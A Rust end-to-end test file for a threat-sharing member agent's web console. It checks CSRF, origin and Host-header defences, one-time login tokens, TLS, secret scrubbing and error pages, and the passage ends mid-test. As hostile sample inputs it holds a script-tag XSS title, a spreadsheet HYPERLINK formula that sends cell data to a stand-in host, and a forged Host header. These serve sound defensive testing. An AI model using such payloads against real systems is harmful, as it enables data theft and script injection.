//! The analyst console (`member-agent ui`, `member-agent run --ui`) against
//! a real hub process and real enrolled agents: its access rules over plain
//! HTTP on loopback, TLS off loopback, and the pages in headless Chromium
//! (tests/browser/console.py, Selenium).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use isac_e2e::{bin, run, HubProcess};

/// Child processes killed (and reaped) when the test ends, pass or fail.
pub(crate) struct Procs(pub(crate) Vec<Child>);

impl Drop for Procs {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

pub(crate) fn agent(state: &Path) -> Command {
    let mut c = bin("member-agent");
    c.arg("--state-dir").arg(state);
    c
}

/// Adds `org` (with `role`) through the hub CLI and enrolls an agent with the agent CLI.
pub(crate) fn enroll(
    data: &Path,
    hub: &HubProcess,
    org: &str,
    name: &str,
    role: &str,
    state: &Path,
) {
    let (ok, token, err) = run(bin("hub")
        .arg("--data-dir")
        .arg(data)
        .args(["member", "add", org, "--name", name, "--role", role]));
    assert!(ok, "{err}");
    let (ok, _, err) =
        run(agent(state).args(["enroll", "--hub", &hub.url(), "--token", token.trim()]));
    assert!(ok, "{err}");
}

fn publish(state: &Path, args: &[&str]) -> String {
    let (ok, out, err) = run(agent(state).arg("publish").args(args));
    assert!(ok, "publish {args:?}: {err}");
    out
}

/// Starts a process whose first stdout line is the console's login link;
/// returns the link and keeps draining stdout.
pub(crate) fn start_with_link(mut cmd: Command, log: &Path, procs: &mut Procs) -> String {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(std::fs::File::create(log).unwrap())
        .spawn()
        .expect("spawn");
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    procs.0.push(child);
    let first = lines
        .next()
        .unwrap_or_else(|| panic!("exited before printing a login link: {}", read(log)))
        .unwrap();
    std::thread::spawn(move || for _ in lines {});
    assert!(
        first.contains("/login#token="),
        "first stdout line is not a login link: {first}"
    );
    first
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// `http://127.0.0.1:PORT/login#token=T` -> ("127.0.0.1:PORT", "T").
pub(crate) fn split_link(link: &str) -> (String, String) {
    let rest = link
        .strip_prefix("http://")
        .or_else(|| link.strip_prefix("https://"))
        .unwrap();
    let (host, frag) = rest.split_once("/login#token=").unwrap();
    (host.to_owned(), frag.to_owned())
}

pub(crate) struct Resp {
    pub(crate) status: u16,
    headers: Vec<(String, String)>,
    pub(crate) body: String,
}

impl Resp {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

fn parse_response(raw: &[u8]) -> Resp {
    let text = String::from_utf8_lossy(raw).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
        .collect();
    Resp {
        status,
        headers,
        body: body.to_owned(),
    }
}

/// One HTTP/1.1 request over plain TCP on loopback (`Connection: close`).
pub(crate) fn http(
    host: &str,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Resp {
    let mut s = TcpStream::connect(host).expect("connect console");
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {}\r\n",
        body.len()
    );
    if method == "POST" {
        req.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
    }
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    req.push_str(body);
    s.write_all(req.as_bytes()).unwrap();
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    parse_response(&raw)
}

pub(crate) fn csrf_of(page: &str) -> String {
    let at = page
        .find("name=\"csrf\" value=\"")
        .expect("a csrf field in the page");
    let rest = &page[at + "name=\"csrf\" value=\"".len()..];
    rest[..rest.find('"').unwrap()].to_owned()
}

fn eventually(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(90) {
        if f() {
            return;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    panic!("timed out waiting for {what}");
}

#[test]
fn console_refuses_no_session_forged_csrf_other_origins_and_a_reused_login_token() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let alice = tmp.path().join("alice");
    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
    let mut procs = Procs(vec![]);
    let mut ui = agent(&alice);
    ui.args(["ui", "--listen", "127.0.0.1:0"]);
    let link = start_with_link(ui, &tmp.path().join("ui.log"), &mut procs);
    assert!(link.starts_with("http://127.0.0.1:"), "{link}");
    let (host, token) = split_link(&link);
    let origin = format!("http://{host}");
    let same = [
        ("Origin", origin.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
    ];

    // No session: pages redirect to the login page, everything else is 401.
    let r = http(&host, "GET", "/", &[("Accept", "text/html")], "");
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(r.header("location"), Some("/login"));
    for path in [
        "/",
        "/events",
        "/search?q=x",
        "/status",
        "/publish/preview?tlp=red",
    ] {
        assert_eq!(http(&host, "GET", path, &[], "").status, 401, "{path}");
    }
    assert_eq!(http(&host, "POST", "/publish", &same, "csrf=x").status, 401);
    // Every answer carries the strict headers, the login page too.
    let r = http(&host, "GET", "/login", &[], "");
    assert_eq!(r.status, 200);
    let csp = r.header("content-security-policy").unwrap_or_default();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
    assert!(
        !r.body.contains("<script>"),
        "inline script on the login page"
    );
    // A Host that is not this loopback console (DNS rebinding) is refused.
    let mut s = TcpStream::connect(&host).unwrap();
    s.write_all(b"GET /login HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    assert_eq!(parse_response(&raw).status, 421);

    // A wrong token, then a login from another origin, are refused and do
    // not burn the real token.
    let r = http(&host, "POST", "/login", &same, "token=00");
    assert_eq!(r.status, 403);
    let body = format!("token={token}");
    let r = http(
        &host,
        "POST",
        "/login",
        &[("Origin", "http://evil.example")],
        &body,
    );
    assert_eq!(r.status, 403);
    let r = http(
        &host,
        "POST",
        "/login",
        &[("Sec-Fetch-Site", "cross-site")],
        &body,
    );
    assert_eq!(r.status, 403);
    // The token works once.
    let r = http(&host, "POST", "/login", &same, &body);
    assert_eq!(r.status, 303, "{}", r.body);
    let cookie = r.header("set-cookie").expect("a session cookie").to_owned();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let session = cookie.split(';').next().unwrap().to_owned();
    let r = http(&host, "POST", "/login", &same, &body);
    assert_eq!(r.status, 403, "the login token worked twice");
    assert!(http(&host, "POST", "/login", &same, &body)
        .header("set-cookie")
        .is_none());

    // With the session: pages answer, with the CSRF token in their forms.
    let with = |extra: &[(&'static str, &'static str)]| {
        let mut h: Vec<(&str, &str)> = vec![("Cookie", session.as_str())];
        h.extend_from_slice(extra);
        h
    };
    let origin: &'static str = Box::leak(origin.into_boxed_str());
    let same: [(&'static str, &'static str); 2] =
        [("Origin", origin), ("Sec-Fetch-Site", "same-origin")];
    let r = http(&host, "GET", "/publish", &with(&[]), "");
    assert_eq!(r.status, 200, "{}", r.body);
    let csrf = csrf_of(&r.body);
    let form = |csrf: &str| format!("csrf={csrf}&kind=package&value=&title=&tlp=green");
    // A forged CSRF token, or none: 403.
    let forged = "f".repeat(csrf.len());
    for body in [form(&forged), form(""), "kind=package".to_owned()] {
        let r = http(&host, "POST", "/publish", &with(&same), &body);
        assert_eq!(r.status, 403, "{body}: {}", r.body);
    }
    // The right token from another origin, or cross-site: 403.
    for headers in [
        with(&[("Origin", "http://evil.example")]),
        with(&[("Origin", "null")]),
        with(&[("Origin", origin), ("Sec-Fetch-Site", "cross-site")]),
        with(&[("Sec-Fetch-Site", "same-site")]),
        with(&[]),
    ] {
        let r = http(&host, "POST", "/publish", &headers, &form(&csrf));
        assert_eq!(r.status, 403, "{headers:?}");
    }
    // The same request from our own page gets through the guards (and is
    // then refused for what it says, next to each field: no observable,
    // no title).
    let r = http(&host, "POST", "/publish", &with(&same), &form(&csrf));
    assert_eq!(r.status, 422, "{}", r.body);
    assert!(r.body.contains("Not signed, nothing sent"), "{}", r.body);
    assert!(r.body.contains("id=\"err-value\""), "{}", r.body);
    // The scan before signing: findings inline, with the three choices.
    let leaky = |csrf: &str, scrub: &str| {
        format!(
            "csrf={csrf}&kind=package&value=pkg%3Anpm%2Fconsole-leak%401.0.0&title=leak&tlp=green\
             &description=ask+jane%40bank-mail.example+on+10.1.2.3&scrub={scrub}"
        )
    };
    let r = http(
        &host,
        "POST",
        "/publish",
        &with(&same),
        &leaky(&csrf, "refuse"),
    );
    assert_eq!(r.status, 422, "{}", r.body);
    assert!(r.body.contains("id=\"scrub-findings\""), "{}", r.body);
    assert!(
        r.body.contains("description at byte 4: email"),
        "{}",
        r.body
    );
    assert!(
        r.body.contains("description at byte 30: internal-ip"),
        "{}",
        r.body
    );
    // The findings do not repeat what they found (the form keeps the text to edit).
    let notice = &r.body[r.body.find("id=\"scrub-findings\"").unwrap()..];
    let notice = &notice[..notice.find("</div>").unwrap()];
    assert!(
        !notice.contains("jane@") && !notice.contains("10.1.2.3"),
        "{notice}"
    );
    for choice in ["refuse", "redact", "allow"] {
        assert!(
            r.body
                .contains(&format!("name=\"scrub\" value=\"{choice}\"")),
            "{}",
            r.body
        );
    }
    let r = http(
        &host,
        "POST",
        "/publish",
        &with(&same),
        &leaky(&csrf, "redact"),
    );
    // Redacted: the review shows the text as it will be signed, then
    // signing takes exactly what was reviewed.
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("id=\"signed-preview\""), "{}", r.body);
    assert!(r.body.contains("id=\"scrub-notes\""), "{}", r.body);
    assert!(
        r.body.contains("ask [email] on [internal-ip]"),
        "{}",
        r.body
    );
    let reviewed = {
        let at = r
            .body
            .find("name=\"reviewed\" value=\"")
            .expect("a review digest");
        let rest = &r.body[at + "name=\"reviewed\" value=\"".len()..];
        rest[..rest.find('"').unwrap()].to_owned()
    };
    let sign = format!("{}&step=sign&reviewed={reviewed}", leaky(&csrf, "redact"));
    let r = http(&host, "POST", "/publish", &with(&same), &sign);
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("id=\"published\""), "{}", r.body);
    assert!(r.body.contains("id=\"scrub-notes\""), "{}", r.body);
    // Sightings and logout are guarded the same way.
    let id = "00000000-0000-4000-8000-000000000000";
    let r = http(
        &host,
        "POST",
        &format!("/item/{id}/sight"),
        &with(&same),
        &format!("csrf={forged}"),
    );
    assert_eq!(r.status, 403);
    let r = http(
        &host,
        "POST",
        "/logout",
        &with(&[("Origin", "http://evil.example")]),
        &format!("csrf={csrf}"),
    );
    assert_eq!(r.status, 403);
    let r = http(
        &host,
        "POST",
        "/logout",
        &with(&same),
        &format!("csrf={csrf}"),
    );
    assert_eq!(r.status, 303);
    assert_eq!(
        http(&host, "GET", "/status", &with(&[]), "").status,
        401,
        "session survived logout"
    );
    drop(procs);
    hub.terminate();
}

/// A self-signed certificate for `localhost`, written as PEM files.
fn self_signed(dir: &Path) -> (PathBuf, PathBuf) {
    use openssl::asn1::Asn1Time;
    use openssl::hash::MessageDigest;
    use openssl::pkey::PKey;
    use openssl::x509::{X509NameBuilder, X509};
    let key = PKey::from_rsa(openssl::rsa::Rsa::generate(2048).unwrap()).unwrap();
    let mut name = X509NameBuilder::new().unwrap();
    name.append_entry_by_text("CN", "localhost").unwrap();
    let name = name.build();
    let mut b = X509::builder().unwrap();
    b.set_version(2).unwrap();
    b.set_subject_name(&name).unwrap();
    b.set_issuer_name(&name).unwrap();
    b.set_pubkey(&key).unwrap();
    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
        .unwrap();
    b.set_not_after(&Asn1Time::days_from_now(2).unwrap())
        .unwrap();
    b.sign(&key, MessageDigest::sha256()).unwrap();
    let (cert, keyf) = (dir.join("console.crt"), dir.join("console.key"));
    std::fs::write(&cert, b.build().to_pem().unwrap()).unwrap();
    std::fs::write(&keyf, key.private_key_to_pem_pkcs8().unwrap()).unwrap();
    (cert, keyf)
}

#[test]
fn console_off_loopback_refuses_to_start_without_tls_and_serves_https_with_it() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let alice = tmp.path().join("alice");
    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
    // Without TLS: exit code 64 and a message naming the fix, for the
    // console and for the daemon's --ui alike.
    for args in [
        vec!["ui", "--listen", "0.0.0.0:0"],
        vec!["ui", "--listen", "0.0.0.0:0", "--tls-cert", "x.pem"],
        vec!["run", "--ui", "0.0.0.0:0"],
    ] {
        let out = agent(&alice).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(64), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("TLS") || err.contains("--tls-key"),
            "{args:?}: {err}"
        );
        assert!(out.stdout.is_empty(), "printed a login link: {args:?}");
    }
    // With TLS it serves HTTPS, and the cookie is Secure and __Host-.
    let (cert, key) = self_signed(tmp.path());
    let mut procs = Procs(vec![]);
    let mut ui = agent(&alice);
    ui.args(["ui", "--listen", "0.0.0.0:0", "--tls-cert"])
        .arg(&cert)
        .arg("--tls-key")
        .arg(&key);
    let link = start_with_link(ui, &tmp.path().join("ui.log"), &mut procs);
    assert!(link.starts_with("https://localhost:"), "{link}");
    let (host, token) = split_link(&link);
    let port = host.rsplit(':').next().unwrap().to_owned();
    let tls_http = |req: String| {
        let mut b = openssl::ssl::SslConnector::builder(openssl::ssl::SslMethod::tls()).unwrap();
        b.set_ca_file(&cert).unwrap();
        let connector = b.build();
        let tcp = TcpStream::connect(format!("127.0.0.1:{port}")).unwrap();
        tcp.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
        let mut s = connector
            .connect("localhost", tcp)
            .expect("TLS to the console");
        s.write_all(req.as_bytes()).unwrap();
        let mut raw = Vec::new();
        let _ = s.read_to_end(&mut raw);
        parse_response(&raw)
    };
    let r = tls_http(format!(
        "GET /login HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    ));
    assert_eq!(r.status, 200);
    assert!(r.header("strict-transport-security").is_some());
    let body = format!("token={token}");
    let r = tls_http(format!(
        "POST /login HTTP/1.1\r\nHost: {host}\r\nOrigin: https://{host}\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    ));
    assert_eq!(r.status, 303, "{}", r.body);
    let cookie = r.header("set-cookie").unwrap_or_default();
    assert!(
        cookie.starts_with("__Host-") && cookie.contains("; Secure"),
        "{cookie}"
    );
    drop(procs);
    hub.terminate();
}

#[test]
fn analyst_console_in_headless_chromium() {
    assert!(
        Path::new("/usr/bin/chromium").exists() && Path::new("/usr/bin/chromedriver").exists(),
        "headless Chromium is missing: run scripts/install-deps"
    );
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let (alice, bob, carol) = (
        tmp.path().join("alice"),
        tmp.path().join("bob"),
        tmp.path().join("carol"),
    );
    enroll(
        &data,
        &hub,
        "alice-bank",
        "Alice Bank",
        "coordinator",
        &alice,
    );
    enroll(&data, &hub, "bob-bank", "Bob Bank", "member", &bob);
    enroll(&data, &hub, "carol-bank", "Carol Bank", "member", &carol);

    // Held before the browser opens: a package for search and exposure, a
    // title that is a script, a bulletin, and a few more for the screenshots.
    publish(
        &alice,
        &[
            "--purl",
            "pkg:npm/evil-pkg@1.0.0",
            "--tlp",
            "green",
            "--severity",
            "critical",
            "--title",
            "evil-pkg steals npm tokens",
            "--description",
            "Its postinstall script reads ~/.npmrc and posts it to a paste site.",
        ],
    );
    let xss_title = "<script>window.__xss=1;alert(\"xss\")</script>";
    publish(
        &alice,
        &[
            "--domain",
            "xss-title.example",
            "--tlp",
            "clear",
            "--title",
            xss_title,
        ],
    );
    publish(
        &bob,
        &[
            "--sha256",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "--tlp",
            "green",
            "--severity",
            "high",
            "--title",
            "dropper in release tarball",
        ],
    );
    publish(
        &bob,
        &[
            "--domain",
            "c2.badcdn.example",
            "--tlp",
            "amber",
            "--severity",
            "high",
            "--title",
            "C2 for the npm token stealer",
            "--anonymous",
        ],
    );
    let body = tmp.path().join("bulletin.txt");
    std::fs::write(
        &body,
        "Members report stolen npm tokens. Rotate tokens used in CI.",
    )
    .unwrap();
    let (ok, _, err) = run(agent(&alice)
        .args([
            "bulletin",
            "--title",
            "INC-2026-042: npm token theft campaign",
            "--tlp",
            "green",
            "--severity",
            "critical",
            "--incident",
            "INC-2026-042",
            "--body",
        ])
        .arg(&body));
    assert!(ok, "{err}");

    // Daemons and consoles: alice and bob with `run` and `ui` as separate
    // processes, carol with `run --ui`.
    let mut procs = Procs(vec![]);
    let mut links = serde_json::Map::new();
    for (name, state) in [("alice", &alice), ("bob", &bob)] {
        let child = agent(state)
            .arg("run")
            .arg("--jsonl")
            .arg(tmp.path().join(format!("{name}.jsonl")))
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(tmp.path().join(format!("{name}-run.log"))).unwrap())
            .spawn()
            .unwrap();
        procs.0.push(child);
        let mut ui = agent(state);
        ui.args(["ui", "--listen", "127.0.0.1:0"]);
        let link = start_with_link(ui, &tmp.path().join(format!("{name}-ui.log")), &mut procs);
        links.insert(name.into(), link.into());
    }
    let mut carol_run = agent(&carol);
    carol_run
        .arg("run")
        .arg("--jsonl")
        .arg(tmp.path().join("carol.jsonl"))
        .args(["--ui", "127.0.0.1:0"]);
    let link = start_with_link(carol_run, &tmp.path().join("carol-run.log"), &mut procs);
    links.insert("carol".into(), link.into());
    // Wait until alice's daemon holds what was published (the pages read the store).
    eventually("alice's daemon to hold 5 items", || {
        let (_, out, _) = run(agent(&alice).args(["list", "--json"]));
        out.lines().count() >= 5
    });

    let lockdir = tmp.path().join("app");
    std::fs::create_dir_all(&lockdir).unwrap();
    let lockfile = lockdir.join("package-lock.json");
    std::fs::write(
        &lockfile,
        r#"{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{
  "":{"name":"app","version":"1.0.0","dependencies":{"evil-pkg":"^1.0.0","left-pad":"^1.3.0"}},
  "node_modules/evil-pkg":{"version":"1.0.0"},
  "node_modules/left-pad":{"version":"1.3.0"}}}"#,
    )
    .unwrap();
    // Taken into the test's own directory, so a test run leaves the tree
    // as it was; `ISAC_SCREENSHOTS_DIR=$PWD/docs/screenshots` refreshes the
    // ones docs/console.md shows.
    let screenshots = std::env::var_os("ISAC_SCREENSHOTS_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| tmp.path().join("screenshots"));
    let config = tmp.path().join("browser.json");
    std::fs::write(
        &config,
        serde_json::json!({
            "links": links,
            "agent_bin": isac_e2e::bin_dir().join("member-agent"),
            "alice_state": alice,
            "lockfile": lockfile,
            "xss_title": xss_title,
            "screenshots": screenshots,
        })
        .to_string(),
    )
    .unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("browser/console.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(&config)
        .output()
        .expect("python3");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let logs: String = [
        "alice-ui.log",
        "bob-ui.log",
        "carol-run.log",
        "alice-run.log",
    ]
    .iter()
    .map(|f| format!("--- {f}\n{}", read(&tmp.path().join(f))))
    .collect();
    assert!(
        out.status.success(),
        "browser script failed:\n{stdout}\n{stderr}\n{logs}"
    );
    for step in [
        "ok: logged in with the one-time link",
        "ok: a <script> title renders as text in the feed",
        "ok: a live item arrived over server-sent events without a reload",
        "ok: the item page shows every field",
        "ok: the <script> title renders as text on its item page",
        "ok: search finds held items",
        "ok: the exposure check matched",
        "ok: published an AMBER item to org:bob-bank from the form",
        "ok: a coordinator's bulletin",
        "ok: the AMBER item arrived at bob-bank's console",
        "ok: carol-bank's console never shows the AMBER item",
        "ok: the status page",
        "ok: keyboard users reach a skip link first",
        "ALL OK",
    ] {
        assert!(stdout.contains(step), "missing `{step}` in:\n{stdout}");
    }
    for shot in [
        "feed",
        "feed-narrow",
        "item",
        "search",
        "exposure",
        "publish",
        "feed-bob",
        "status",
    ] {
        assert!(
            screenshots.join(format!("{shot}.png")).exists(),
            "{shot}.png"
        );
    }
    drop(procs);
    hub.terminate();
}

/// A title another member wrote as a spreadsheet formula comes out of
/// `export --format csv` and the console's CSV copy (the page and its
/// download) as text: `'` in front, quoted. Importing our own export with
/// `publish --csv` gives back the title as it was.
#[test]
fn csv_exports_neutralise_a_formula_title_in_the_cli_and_the_console() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let (alice, bob) = (tmp.path().join("alice"), tmp.path().join("bob"));
    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
    enroll(&data, &hub, "bob-bank", "Bob Bank", "member", &bob);
    let title = r#"=HYPERLINK("http://x.example/?"&A1,"click")"#;
    let out = publish(
        &alice,
        &[
            "--domain",
            "c2.formula.example",
            "--tlp",
            "green",
            "--title",
            title,
            "--severity",
            "high",
        ],
    );
    let id = out
        .split_whitespace()
        .find_map(|kv| kv.strip_prefix("id="))
        .unwrap()
        .to_owned();
    let jsonl = tmp.path().join("bob.jsonl");
    let (ok, _, err) = run(agent(&bob).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
    assert!(ok, "{err}");

    // The CLI export.
    let neutralised = r#""'=HYPERLINK(""http://x.example/?""&A1,""click"")""#;
    let exported = tmp.path().join("bob.csv");
    let (ok, _, err) = run(agent(&bob).args([
        "export",
        "--format",
        "csv",
        "--out",
        exported.to_str().unwrap(),
    ]));
    assert!(ok, "{err}");
    let text = read(&exported);
    assert!(text.contains(&format!(",{neutralised},")), "{text}");
    assert!(!text.contains(",=HYPERLINK"), "{text}");

    // The console: the copy on the item page and its download.
    let mut procs = Procs(vec![]);
    let mut ui = agent(&bob);
    ui.args(["ui", "--listen", "127.0.0.1:0"]);
    let link = start_with_link(ui, &tmp.path().join("ui.log"), &mut procs);
    let (host, token) = split_link(&link);
    let origin = format!("http://{host}");
    let same = [
        ("Origin", origin.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
    ];
    let r = http(&host, "POST", "/login", &same, &format!("token={token}"));
    assert_eq!(r.status, 303, "{}", r.body);
    let cookie = r
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let session = [("Cookie", cookie.as_str())];
    let r = http(&host, "GET", &format!("/item/{id}"), &session, "");
    assert_eq!(r.status, 200, "{}", r.body);
    // The same cell, as page text (`&` and `"` escaped; `'` needs no
    // escape in element content).
    let shown = neutralised.replace('&', "&amp;").replace('"', "&quot;");
    let copy = r.body.find("id=\"copy-csv\"").expect("a CSV copy");
    assert!(r.body[copy..].contains(&shown), "{}", &r.body[copy..]);
    let r = http(
        &host,
        "GET",
        &format!("/item/{id}/export/csv"),
        &session,
        "",
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains(&format!(",{neutralised},")), "{}", r.body);
    drop(procs);

    // Our own export imports back to the same title.
    let (ok, out, err) = run(agent(&bob).args(["publish", "--csv", exported.to_str().unwrap()]));
    assert!(
        ok && out.contains("1 rows; 1 published, 0 invalid"),
        "{out} {err}"
    );
    let (ok, _, err) = run(agent(&bob).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
    assert!(ok, "{err}");
    let (ok, out, err) = run(agent(&bob).args(["list", "--json"]));
    assert!(ok, "{err}");
    let titles: Vec<(String, String)> = out
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .map(|v| {
            (
                v["source"].as_str().unwrap().to_owned(),
                v["title"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert!(
        titles.contains(&("bob-bank".to_owned(), title.to_owned()))
            && titles.contains(&("alice-bank".to_owned(), title.to_owned())),
        "{titles:?}"
    );
    hub.terminate();
}

#[test]
fn a_console_500_page_names_a_request_id_and_shows_no_raw_error_text() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let alice = tmp.path().join("alice");
    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
    let mut procs = Procs(vec![]);
    let mut ui = agent(&alice);
    ui.args(["ui", "--listen", "127.0.0.1:0"]);
    let log = tmp.path().join("ui.log");
    let link = start_with_link(ui, &log, &mut procs);
    let (host, token) = split_link(&link);
    let origin = format!("http://{host}");
    let same = [
        ("Origin", origin.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
    ];
    let r = http(&host, "POST", "/login", &same, &format!("token={token}"));
    assert_eq!(r.status, 303, "{}", r.body);
    let cookie = r
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let session = [("Cookie", cookie.as_str())];
    assert_eq!(http(&host, "GET", "/", &session, "").status, 200);

    // Break the agent's database under the running console, as a damaged
    // file or a botched upgrade would.
    let conn = rusqlite::Connection::open(alice.join("agent.db")).unwrap();
    conn.execute_batch("ALTER TABLE items RENAME TO items_gone;")
        .unwrap();
    drop(conn);

    let r = http(&host, "GET", "/", &session, "");
    assert_eq!(r.status, 500, "{}", r.body);
    for raw in [
        "no such table",
        "items",
        "local store",
        "sqlite",
        "agent.db",
    ] {
        assert!(
            !r.body.to_ascii_lowercase().contains(raw),
            "{raw:?} on the page: {}",
            r.body
        );
    }
    let id = r.header("x-request-id").expect("X-Request-Id").to_owned();
    assert!(r.body.contains(&format!("(request id {id})")), "{}", r.body);
    assert!(r.body.contains("internal error"), "{}", r.body);
    // The detail is in the console's log, under the id the page showed.
    eventually("the log line naming the request id", || {
        read(&log)
            .lines()
            .any(|l| l.contains(&id) && l.contains("no such table"))
    });
    drop(procs);
    hub.terminate();
}

/// Issue 22: the seventh page load in a row stalled for about a minute.
/// Headless Chromium loads the feed, five filter variants and one more, an
/// item page after six feed loads, twenty more navigations and back and
/// forward, against `run --ui` following the hub while another member
/// publishes; every load must complete (a per-load timeout far above a
/// normal load is the failure signal, not a speed figure). An item held in
/// two revisions shows once, marked updated, in the feed and in search.
#[test]
fn console_page_loads_in_a_row_never_stall_in_headless_chromium() {
    assert!(
        Path::new("/usr/bin/chromium").exists() && Path::new("/usr/bin/chromedriver").exists(),
        "headless Chromium is missing: run scripts/install-deps"
    );
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let (alice, carol) = (tmp.path().join("alice"), tmp.path().join("carol"));
    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
    enroll(&data, &hub, "carol-bank", "Carol Bank", "member", &carol);
    for (i, kind) in ["--domain", "--purl"].iter().cycle().take(6).enumerate() {
        let value = if *kind == "--domain" {
            format!("held-{i}.example")
        } else {
            format!("pkg:npm/held-{i}@1.0.0")
        };
        publish(
            &alice,
            &[
                kind,
                &value,
                "--tlp",
                "green",
                "--severity",
                "high",
                "--title",
                &format!("held before the browser opens {i}"),
            ],
        );
    }
    // One item in two revisions: a STIX indicator imported, then updated.
    let stix = tmp.path().join("revised.json");
    let bundle = |name: &str, modified: &str| {
        serde_json::json!({"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56e",
            "objects": [{"type": "indicator", "spec_version": "2.1",
                "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd40",
                "created": "2024-01-01T00:00:00.000Z", "modified": modified, "name": name,
                "pattern": "[domain-name:value = 'revised.example']", "pattern_type": "stix",
                "valid_from": "2024-01-01T00:00:00Z"}]})
        .to_string()
    };
    for (name, modified, expect) in [
        (
            "revised indicator",
            "2024-01-01T00:00:00.000Z",
            "1 published",
        ),
        (
            "revised indicator, confirmed",
            "2024-06-01T00:00:00.000Z",
            "1 revised",
        ),
    ] {
        std::fs::write(&stix, bundle(name, modified)).unwrap();
        let out = publish(
            &alice,
            &["--stix", stix.to_str().unwrap(), "--tlp", "green"],
        );
        assert!(out.contains(expect), "{out}");
    }
    let mut procs = Procs(vec![]);
    let mut carol_run = agent(&carol);
    carol_run
        .arg("run")
        .arg("--jsonl")
        .arg(tmp.path().join("carol.jsonl"))
        .args(["--ui", "127.0.0.1:0"]);
    let log = tmp.path().join("carol-run.log");
    let link = start_with_link(carol_run, &log, &mut procs);
    eventually("carol's daemon to hold 6 items and 2 revisions", || {
        let (_, out, _) = run(agent(&carol).args(["list", "--json"]));
        out.lines().count() >= 8
    });
    let config = tmp.path().join("browser.json");
    std::fs::write(
        &config,
        serde_json::json!({
            "link": link,
